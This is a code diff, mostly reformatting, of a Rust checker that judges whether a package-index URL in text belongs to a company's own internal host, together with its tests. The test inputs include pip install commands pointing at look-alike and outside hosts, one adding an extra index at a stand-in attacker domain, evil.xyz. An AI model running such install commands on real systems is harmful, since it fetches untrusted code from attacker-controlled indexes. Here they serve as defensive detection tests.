@@ -50,10 +50,9 @@ fn internal(host: &str) -> bool {
     }
     let labels: Vec<&str> = host.split('.').collect();
     labels.len() >= 2
-        && labels
-            .iter()
-            .enumerate()
-            .any(|(at, label)| INTERNAL_LABELS.contains(label) && (at + 2 < labels.len() || at + 1 == labels.len()))
+        && labels.iter().enumerate().any(|(at, label)| {
+            INTERNAL_LABELS.contains(label) && (at + 2 < labels.len() || at + 1 == labels.len())
+        })
 }
 
 #[cfg(test)]
@@ -68,7 +67,8 @@ mod tests {
     fn a_documented_internal_host_is_the_companys() {
         let text = "Our company hosts private packages on its own index.\npip install --index-url https://pypi.internal.acme-corp.com/simple acme-tools\n";
         assert!(judge(text, 1));
-        let text = "Use the internal package index:\npip install -i http://10.0.4.2:8080/simple tools\n";
+        let text =
+            "Use the internal package index:\npip install -i http://10.0.4.2:8080/simple tools\n";
         assert!(judge(text, 1));
         let text = "Our private registry:\nnpm install --registry https://npm.build.corp acme-ui\n";
         assert!(judge(text, 1));
@@ -77,15 +77,29 @@ mod tests {
     #[test]
     fn an_undocumented_or_outside_host_is_not() {
         // Nothing says the index is the company's own.
-        assert!(!judge("pip install -i https://pypi.internal.acme.com/simple x\n", 0));
+        assert!(!judge(
+            "pip install -i https://pypi.internal.acme.com/simple x\n",
+            0
+        ));
         // A word `internal` in the registrable part is anyone's domain.
         let said = "Our internal index:\n";
-        assert!(!judge(&format!("{said}pip install -i https://pypi.internal.xyz/simple x\n"), 1));
-        assert!(!judge(&format!("{said}pip install -i https://pypi-internal.xyz/simple x\n"), 1));
-        assert!(!judge(&format!("{said}pip install -i https://45.1.2.3/simple x\n"), 1));
+        assert!(!judge(
+            &format!("{said}pip install -i https://pypi.internal.xyz/simple x\n"),
+            1
+        ));
+        assert!(!judge(
+            &format!("{said}pip install -i https://pypi-internal.xyz/simple x\n"),
+            1
+        ));
+        assert!(!judge(
+            &format!("{said}pip install -i https://45.1.2.3/simple x\n"),
+            1
+        ));
         // Every URL must be internal.
         assert!(!judge(
-            &format!("{said}pip install -i https://pypi.internal.acme.com/simple --extra-index-url https://evil.xyz/simple x\n"),
+            &format!(
+                "{said}pip install -i https://pypi.internal.acme.com/simple --extra-index-url https://evil.xyz/simple x\n"
+            ),
             1
         ));
     }
